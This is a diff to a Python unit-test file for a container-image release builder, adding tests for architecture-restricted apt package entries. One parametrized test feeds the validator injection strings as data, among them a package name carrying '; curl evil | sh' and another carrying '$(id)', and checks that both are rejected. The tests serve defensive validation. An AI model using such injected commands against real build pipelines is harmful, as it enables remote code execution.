@@ -3,11 +3,14 @@ ones among them; `plan` shows them and `release` will not publish a tag without 
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from ngc_builder.commands.plan import PlanOptions, plan_command
 from ngc_builder.errors import InputError
 from ngc_builder.manifest.load import load_release
+from ngc_builder.manifest.platforms import packages_for
 from ngc_builder.plan.dag import ancestors, optional_platform, plan_release
 from tests.conftest import WriteRelease
 from tests.unit.conftest import GOOD_RELEASE
@@ -80,3 +83,26 @@ def test_a_shared_layer_may_go_without_a_platform_only_when_every_image_above_ma
     pytorch = optional.get("pytorch")  # ships amd64 alone: nothing of arm64 is its to drop
     assert not optional_platform(optional, pytorch, ARM)
     assert ancestors(optional, optional.get("jax")) >= {"base"}
+
+
+def test_a_layer_package_may_be_restricted_to_some_architectures() -> None:
+    wanted = ["libquadmath0 [amd64]", "libgomp1", "libfoo [arm64 amd64]"]
+    assert packages_for(wanted, "linux/amd64") == ["libquadmath0", "libgomp1", "libfoo"]
+    assert packages_for(wanted, ARM) == ["libgomp1", "libfoo"]
+
+
+@pytest.mark.parametrize(("package", "message"), [
+    ("libquadmath0 [amd64]; curl evil | sh", "is not a valid Debian package"),
+    ("libquadmath0 [amd64 $(id)]", "is not a valid Debian package"),
+    ("libquadmath0 [riscv64]", "names architectures no platform has: ['riscv64']"),
+    ("libquadmath0 []", "is not a valid Debian package"),
+])
+def test_a_hostile_architecture_restriction_names_the_framework_file(
+        write_release: WriteRelease, package: str, message: str) -> None:
+    folder = write_release(GOOD_RELEASE, lock=False).parent.parent / "frameworks" / "pytorch"
+    spec = folder / "framework.yaml"
+    spec.write_text(spec.read_text().replace('["libquadmath0 [amd64]"]', json.dumps([package])))
+    found, missing = problems(write_release, GOOD_RELEASE)
+    assert missing.endswith("images[0].framework: no complete frameworks/pytorch/ folder")
+    assert found.startswith("frameworks/pytorch/framework.yaml:10: apt_packages[0]: ")
+    assert message in found
